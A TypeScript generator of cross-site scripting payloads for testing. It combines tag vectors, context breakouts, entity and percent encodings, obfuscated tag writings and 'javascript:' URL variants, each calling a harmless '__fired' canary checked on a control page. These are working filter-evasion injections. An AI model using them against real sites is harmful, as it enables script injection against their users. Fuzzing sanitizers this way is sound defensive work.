/**
 * Texts that run a script wherever they are taken for markup, an attribute, an address, a string of a script, or for any of
 * these after one more decoding. Put together here from vectors × ways of writing × places to break out of × calls.
 * Each calls `__fired(<its number>)`; which of them really do is found out on a control page (trap.ts).
 */

/** The place whose syntax the text abuses. `twice` and `percent`: markup after entities, or percent signs, are decoded once more. */
export type Place = 'html' | 'double' | 'single' | 'bare' | 'address' | 'script' | 'twice' | 'percent' | 'folded'

export interface Payload {
  id: number
  place: Place
  text: string
}

/** Ways to call: some without brackets, some with signs that are written another way. All work in an attribute without quotes. */
const calls = [
  (id: number) => `__fired(${id})`,
  (id: number) => `__fired\`${id}\``,
  (id: number) => `\\u005f_fired(${id})`,
  (id: number) => `[${id}].map(__fired)`,
  (id: number) => `self[/__fired/.source](${id})`,
  (id: number) => `(0,__fired)(${id})`,
  (id: number) => `setTimeout(__fired,0,${id})`,
  (id: number) => `Promise.resolve(${id}).then(__fired)`,
]
/** Calls as an attribute may hold them: signs as entities, decimal or hexadecimal, with and without their end. */
const entity = [
  (call: string) => call,
  (call: string) => call.replace('(', '&#40;').replace('`', '&#96;'),
  (call: string) => call.replace('_', '&#x5f;').replace(')', '&rpar;'),
  (call: string) => call.replace('_', '&#0000095').replace('[', '&lbrack;'),
]

/** What stands for the image of an element that is to fail: it is asked for, so that markup alone is noticed, too. */
const gone = '/__canary'

/** A tag with its attributes in parts, so that each can be written in several ways, and what follows it. */
type Vector = (call: string) => readonly [tag: string, attributes: readonly string[], inside?: string]

const vectors: Vector[] = [
  (call) => ['img', [`src="${gone}"`, `onerror=${call}`]],
  (call) => ['img', ['src="data:,"', `onerror=${call}`]],
  (call) => ['img', [`srcset="${gone}"`, `onerror=${call}`]],
  (call) => ['svg', [`onload=${call}`]],
  (call) => ['svg', [], `<animate onbegin=${call} attributeName=x dur=1s>`],
  (call) => ['svg', [], `<set onbegin=${call} attributeName=x to=y>`],
  (call) => ['svg', [], `<image href=${gone} onerror=${call}>`],
  (call) => ['math', [], `<mtext></mtext><img src=${gone} onerror=${call}>`],
  (call) => ['video', [], `<source src=${gone} onerror=${call}>`],
  (call) => ['audio', [`src="${gone}"`, `onerror=${call}`]],
  (call) => ['details', ['open', `ontoggle=${call}`]],
  (call) => ['input', ['autofocus', `onfocus=${call}`]],
  (call) => ['input', ['type=image', `src="${gone}"`, `onerror=${call}`]],
  (call) => ['select', ['autofocus', `onfocus=${call}`]],
  (call) => ['textarea', ['autofocus', `onfocus=${call}`]],
  (call) => ['div', ['tabindex=1', `onfocus=${call}`], 'x'],
  (call) => ['b', [`onclick=${call}`], 'x'],
  (call) => ['i', [`onpointerover=${call}`], 'x'],
  (call) => ['u', [`onmouseover=${call}`], 'x'],
  (call) => ['p', ['contenteditable', `onpaste=${call}`], 'x'],
  (call) => ['a', ['href=#', `onauxclick=${call}`], 'x'],
  (call) => ['xss', [`onwheel=${call}`], 'x'],
  (call) => ['marquee', [`onstart=${call}`], 'x'],
  (call) => ['script', [], call],
  (call) => ['script', ['type=module'], call],
  (call) => ['script', [`src="data:,${encodeURIComponent(call)}"`]],
  (call) => ['style', [`onload=${call}`], 'x{}'],
  (call) => ['link', ['rel=stylesheet', 'href="data:text/css,"', `onload=${call}`]],
  (call) => ['iframe', [`srcdoc="<script>parent.${plain(call)}</script>"`]],
  (call) => ['iframe', [`onload=${call}`]],
  (call) => ['iframe', [`src="javascript:parent.${plain(call)}"`]],
  (call) => ['object', [`data="${gone}"`, `onerror=${call}`]],
  (call) => ['table', [], `<img src=${gone} onerror=${call}>`],
  (call) => ['form', ['id=f'], `<button form=f formaction=javascript:${call}>x</button>`],
]

/** The one call that works behind `parent.` and inside quotes. */
const plain = (call: string): string =>
  `__fired(${/\d+/.exec(call.replace(/^\\u005f/, '').replace(/&#\w+;?/g, ''))?.[0]})`

/** How a tag is written: parsers of browsers take all of these for the same. */
const writings: ((tag: string, attributes: readonly string[], inside: string) => string)[] = [
  (tag, all, inside) => `<${[tag, ...all].join(' ')}>${inside}</${tag}>`,
  (tag, all, inside) => `<${[tag.toUpperCase(), ...all].join(' ')} >${inside}`,
  (tag, all, inside) => `<${[mixed(tag), ...all].join('/').replace(/\/$/, '')} x>${inside}</${tag}\n>`,
  (tag, all, inside) => `<<${[tag, ...all.map(mixedName)].join('\t')}\f>${inside}</${tag}>`,
  (tag, all, inside) => `<!--><${[tag, 'title="<x>"', ...all].join('\r\n')}\n>${inside}</${tag}>`,
]
const mixed = (tag: string): string => tag.replace(/./g, (sign, at) => (at % 2 ? sign.toUpperCase() : sign))
const mixedName = (attribute: string): string => attribute.replace(/^on\w+/, mixed)

/** What ends the place that a text stands in, so that a tag behind it counts. */
const ends: readonly (readonly [Place, string])[] = [
  ['html', ''],
  ['html', '-->'],
  ['html', '</title></textarea></style>'],
  ['html', '</script>'],
  ['html', '</noscript></template></select>'],
  ['double', '">'],
  ['single', "'>"],
  ['bare', ' >'],
]

const fullWidth: Record<string, string> = { '<': '＜', '>': '＞', '(': '（', ')': '）', '=': '＝' }

/** The same texts for those who decode once too often. */
const coded: readonly (readonly [Place, (text: string) => string])[] = [
  ['twice', (text) => text.replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/>/g, '&gt;')],
  ['percent', (text) => encodeURIComponent(text)],
  ['folded', (text) => text.replace(/[<>()=]/g, (sign) => fullWidth[sign] as string)],
]

/** Handlers that join an element that is there already. */
const joined = (call: string): [Place, string][] => [
  ['double', `" onfocus=${call} autofocus x="`],
  ['double', `"onclick="${call}"x="`],
  ['single', `' onpointerenter=${call} x='`],
  ['bare', ` onmouseover=${call} `],
]

/** Addresses that run: with other cases, signs that are dropped, and other schemes. */
const addresses = (call: string): string[] => [
  `javascript:${call}`,
  `JaVaScRiPt:${call}`,
  `java\tscript:${call}`,
  `jav\nascript\r:${call}`,
  `\u0001javascript:${call}`,
  `  javascript:${call}`,
  `javascript://example.com/%0a${call}`,
  `javascript:/*https://example.com/*/${call}`,
  `javascript:void%20${call}`,
]

/** Ends of a string in a script. */
const strings = (call: string): string[] => [
  `";${call};//`,
  `"+${call}+"`,
  `</script><script>${call}//`,
  `\\";${call};//`,
  `</ScRiPt ><svg onload=${call}>`,
]

/** All of them, the same on every run. */
export function payloads(): Payload[] {
  const made: Payload[] = []
  const add = (place: Place, write: (call: string) => string) => {
    const id = made.length
    const call = calls[id % calls.length] as (id: number) => string
    made.push({ id, place, text: write(call(id)) })
  }
  const tag = (vector: Vector, writing: (typeof writings)[number], call: string) => {
    // Signs as entities are read in attributes only.
    const [name, attributes, inside = ''] = vector(call)
    const coding = entity[call.length % entity.length] as (call: string) => string
    return writing(
      name,
      attributes.map((one) => one.replace(/^(on\w+=)(.*)$/, (_, on: string, what: string) => on + coding(what))),
      inside,
    )
  }
  for (const vector of vectors)
    for (const writing of writings) {
      for (const [place, end] of ends) add(place, (call) => end + tag(vector, writing, call))
      for (const [place, code] of coded)
        if (writing === writings[0]) add(place, (call) => code(tag(vector, writing, call)))
    }
  for (const _ of calls) {
    for (const at of joined('').keys())
      add((joined('')[at] as [Place, string])[0], (call) => (joined(call)[at] as [Place, string])[1])
    for (const at of addresses('').keys()) add('address', (call) => addresses(call)[at] as string)
    for (const at of strings('').keys()) add('script', (call) => strings(call)[at] as string)
  }
  return made
}

/** Joined into texts of about so many: what is written between ends what a text left open. */
export function packs(all: readonly Payload[], size: number): string[] {
  const made: string[] = []
  for (let at = 0; at < all.length; at += size)
    made.push(
      all
        .slice(at, at + size)
        .map(({ text }) => text)
        .join(' \n'),
    )
  return made
}
